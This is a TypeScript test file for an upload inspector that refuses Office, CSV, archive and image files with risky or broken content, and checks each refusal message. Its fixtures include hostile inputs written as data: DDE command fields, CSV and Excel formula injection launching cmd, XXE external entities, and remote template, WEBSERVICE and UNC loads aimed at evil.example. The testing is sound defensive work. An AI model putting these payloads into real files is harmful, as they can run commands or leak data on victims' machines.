import { expect, test } from "vitest";
import {
  docxOf,
  officeOf,
  oldOfficeOf,
  oldWord,
  pictureOf,
  relations,
  svg,
} from "../../../../test/factories/market-files.ts";
import { zipOf, type ZipOptions } from "../../../../test/factories/zip.ts";
import { inspectContent } from "./inspect-content.ts";
import { faultText } from "./inspection-result.ts";

/** What its seller reads of a file that is refused. */
async function sentenceOf(name: string, content: Buffer): Promise<string> {
  const verdict = await inspectContent({ name, content, within: null });
  if (verdict.fault === null) throw new Error(`${name} was taken`);
  return faultText(verdict);
}

const dde = { name: "word/document.xml", content: '<w:d><w:fldSimple w:instr="DDEAUTO cmd"/></w:d>' };
const sheet = (formula: string): ZipOptions => ({
  name: "xl/worksheets/sheet1.xml",
  content: `<s><f>${formula}</f></s>`,
});
const wrapped: ZipOptions = { name: "word/embeddings/oleObject1.bin", content: oldOfficeOf(oldWord()) };
const entities = (from: string): ZipOptions => ({
  name: "word/header1.xml",
  content: `<!DOCTYPE x [<!ENTITY a ${from}>]><x>&a;</x>`,
});
const mouse: ZipOptions = {
  name: "ppt/slides/slide1.xml",
  content: '<p><a:hlinkMouseOver r:id="rId2" action="ppaction://program"/></p>',
};
const linkedObject: ZipOptions = {
  name: "ppt/slides/_rels/slide1.xml.rels",
  content: '<r><Relationship Type="http://x/oleObject" Target="file:///C:/a.docx" TargetMode="External"/></r>',
};

test.each<[string, Buffer, string]>([
  [
    "plan.docx",
    officeOf("docx", dde),
    "This Word file contains a field that starts other programs (DDE) in word/document.xml.",
  ],
  [
    "plan.docx",
    docxOf(wrapped),
    "This Word file contains an object that another program made (OLE) in word/embeddings/oleObject1.bin.",
  ],
  [
    "plan.docx",
    docxOf(entities('SYSTEM "http://evil.example"')),
    "This Word file contains a reference to another file (an external entity) in word/header1.xml.",
  ],
  [
    "plan.docx",
    docxOf(entities('"aaaa"')),
    "This Word file contains text that stands for other text (an entity) in word/header1.xml.",
  ],
  [
    "plan.docx",
    docxOf(relations("https://evil.example/a.dotm")),
    "This Word file contains something that is loaded from elsewhere when it is opened (https://evil.example/a.dotm) in word/_rels/settings.xml.rels.",
  ],
  [
    "plan.docx",
    docxOf({ name: "word/notes.txt", content: dde.content }),
    "This Word file contains a field that starts other programs (DDE) in word/notes.txt.",
  ],
  [
    "plan.docx",
    docxOf({ name: "word/embeddings/a.xlsx", content: officeOf("xlsx", sheet("cmd|'/c calc'!A0")) }),
    "This Word file contains a formula that starts other programs (DDE) in word/embeddings/a.xlsx/xl/worksheets/sheet1.xml.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", sheet("cmd|'/c calc'!A0")),
    "This Excel file contains a formula that starts other programs (DDE) in xl/worksheets/sheet1.xml.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", sheet('_xlfn.WEBSERVICE("https://evil.example")')),
    "This Excel file contains a formula that loads something from elsewhere in xl/worksheets/sheet1.xml.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", {
      name: "xl/externalLinks/externalLink1.xml",
      content: '<x:e><x:ddeLink ddeService="cmd" ddeTopic="/c"/></x:e>',
    }),
    "This Excel file contains a link that starts other programs (DDE) in xl/externalLinks/externalLink1.xml.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", {
      ...relations("\\\\evil\\a.xlsx", "externalLinkPath"),
      name: "xl/externalLinks/_rels/externalLink1.xml.rels",
    }),
    "This Excel file contains something that is loaded from elsewhere when it is opened (\\\\evil\\a.xlsx) in xl/externalLinks/_rels/externalLink1.xml.rels.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", { name: "xl/connections.xml", content: '<c><connection refreshOnLoad="1"/></c>' }),
    "This Excel file contains something that is loaded from elsewhere when it is opened in xl/connections.xml.",
  ],
  [
    "rows.xlsx",
    officeOf("xlsx", {
      name: "xl/drawings/vmlDrawing1.vml",
      content: `<xml><br>&x<fldSimple instr="DDE cmd"/></p></xml>`,
    }),
    "This Excel file contains a field that starts other programs (DDE) in xl/drawings/vmlDrawing1.vml.",
  ],
  [
    "steps.pptx",
    officeOf("pptx", mouse),
    "This PowerPoint file contains an action that starts other programs in ppt/slides/slide1.xml.",
  ],
  [
    "steps.pptx",
    officeOf("pptx", linkedObject),
    "This PowerPoint file contains an object that another program made (OLE) (file:///C:/a.docx) in ppt/slides/_rels/slide1.xml.rels.",
  ],
  [
    "rows.csv",
    Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n"),
    "This table contains a formula that starts other programs (DDE) in row 2.",
  ],
  [
    "plan.doc",
    oldOfficeOf({ ...oldWord(), "/ObjectPool/_1/Contents": Buffer.from("x") }),
    "This Word file contains an object that another program made (OLE).",
  ],
  [
    "class.zip",
    zipOf({ name: "class/plan.docx", content: docxOf(wrapped) }),
    "The Word file class/plan.docx in this archive contains an object that another program made (OLE) in word/embeddings/oleObject1.bin.",
  ],
])("what is found in %s is named, with its place: case %#", async (name, content, sentence) => {
  expect(await sentenceOf(name, content)).toBe(`${sentence} Remove it and upload again.`);
});

test("a long name in a file is quoted in part", async () => {
  const name = `word/${"a".repeat(300)}.xml`;
  expect(await sentenceOf("plan.docx", docxOf({ name, content: dde.content }))).toContain(
    `in word/${"a".repeat(115)}…. Remove it`,
  );
});

const picture = await pictureOf(300, 200);
const without = (bytes: Buffer, at: number): Buffer => {
  const empty = Buffer.from(bytes);
  empty.writeUInt32BE(0, at);
  return empty;
};
test.each<[string, string, Buffer, string]>([
  [
    "no pixels across",
    "cover.png",
    without(picture, 16),
    "This picture is empty or cut off. Export it again and upload that file.",
  ],
  [
    "a head and nothing more",
    "cover.png",
    picture.subarray(0, 60),
    "This picture is empty or cut off. Export it again and upload that file.",
  ],
  [
    "its half",
    "cover.png",
    picture.subarray(0, picture.length / 2),
    "This picture is empty or cut off. Export it again and upload that file.",
  ],
  [
    "an empty GIF",
    "cover.gif",
    Buffer.from("GIF89a\0\0\0\0\u0080\0\0\0\0\0\u00ff\u00ff\u00ff,\0\0\0\0\0\0\0\0\0\u0002\u0002D\u0001\0;", "latin1"),
    "This picture is empty or cut off. Export it again and upload that file.",
  ],
  ["a drawing called a picture", "cover.png", svg, "This file is not what its name says."],
])("a picture with %s is refused", async (_, name, content, message) => {
  expect(await sentenceOf(name, content)).toBe(message);
});
